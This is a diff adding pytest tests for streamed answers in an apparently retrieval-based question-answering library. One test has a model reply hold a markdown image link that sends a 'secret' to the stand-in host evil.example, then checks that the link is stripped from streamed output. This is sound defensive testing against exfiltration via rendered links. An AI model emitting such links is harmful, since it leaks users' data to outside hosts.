@@ -5,11 +5,12 @@ from __future__ import annotations
 import json
 from collections.abc import Iterable
 from dataclasses import replace
+from http.server import BaseHTTPRequestHandler
 from pathlib import Path
 from typing import Any, cast
 
 import pytest
-from servers.chat_server import Body, ChatServer, Play, raw, says, serving, status
+from servers.chat_server import Body, ChatServer, Play, cut, raw, says, serving, status
 
 from hindsight_neo4j import Hindsight
 from hindsight_neo4j.answering import AgentLimits
@@ -63,6 +64,33 @@ def test_an_answer_cites_what_was_packed(shop: Path) -> None:
     assert (asked.failed, asked.answer_reason, asked.notes) == (False, "", ())
     assert (asked.usage.calls, asked.usage.prompt_tokens) == (2, 200)
     assert asked.to_dict()["answer"]["sentences"][0]["supported"] is True
+
+
+def test_an_answer_is_heard_while_it_comes_without_links_and_from_the_cache_at_once(
+    shop: Path,
+) -> None:
+    leaking = "See ![x](http://evil.example/?q=secret) here."
+    heard: list[str] = []
+    again: list[str] = []
+    with serving(model(leaking)) as server:
+        asked = ask(shop, server, hear=heard.append)
+        ask(shop, server, hear=again.append)
+    assert asked.answer is not None
+    assert len(heard) > 1
+    assert not any("evil" in each for each in heard[1:])
+    assert heard[-1] == asked.answer.prose
+    assert again == heard[-1:]
+
+
+def test_a_stream_that_breaks_off_leaves_the_evidence(shop: Path) -> None:
+    def play(handler: BaseHTTPRequestHandler, body: Body) -> None:
+        (cut if body.get("stream") else model())(handler, body)
+
+    with serving(play) as server:
+        asked = ask(shop, server, hear=lambda said: None)
+    assert asked.failed
+    assert "broke off" in asked.answer_reason
+    assert asked.evidence
 
 
 def test_the_model_sees_the_question_and_the_evidence_between_fences(shop: Path) -> None:
